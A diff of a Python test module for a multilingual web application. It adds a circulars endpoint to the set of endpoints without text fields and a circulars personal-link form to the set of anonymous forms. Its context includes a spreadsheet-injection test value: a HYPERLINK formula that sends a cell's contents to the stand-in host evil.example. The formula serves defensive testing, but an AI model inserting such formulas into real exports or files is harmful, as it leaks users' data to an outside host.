@@ -51,7 +51,7 @@ NO_TEXT_FIELDS = {
     "directory_io.import_commit", "directory.person_archive", "directory.person_restore",
     "directory.unit_archive", "directory.unit_delete", "directory.unit_restore", "directory.post_end",
     "meetings.change_status", "meetings.agenda_item_action", "meetings.cancel_session", "meetings.uninvite",
-    "reminders.cancel", "reminders.retry", "reminders.pause", "reminders.resolve_problem",
+    "reminders.cancel", "reminders.retry", "reminders.pause", "reminders.resolve_problem", "circulars.remind",
     "reminders.reminder_times", "reviews.standard_checklist", "reviews.standard_categories",
     "reviews.move_checklist_item", "reviews.sign_off", "reviews.start_for_session", "api_tokens.revoke",
     "reminders_link.office_revoke", "reminders_link.revoke", "reminders_link.own_revoke",
@@ -63,7 +63,8 @@ NO_TEXT_FIELDS = {
 
 # The forms of someone not signed in: posted by the tests at the end of this module.
 # The reply from a personal link is the same ReplyForm as meetings.reply (which the crawl posts).
-ANONYMOUS_FORMS = {"auth.login", "auth.login_mobile", "auth.login_code", "reminders_link.reply"}
+ANONYMOUS_FORMS = {"auth.login", "auth.login_mobile", "auth.login_code", "reminders_link.reply",
+                   "circulars_link.link_show"}
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 # The Hindi of WTForms' Length messages: "अधिकतम %(max)d अक्षर …", "… %(min)d से %(max)d अक्षरों के बीच …".
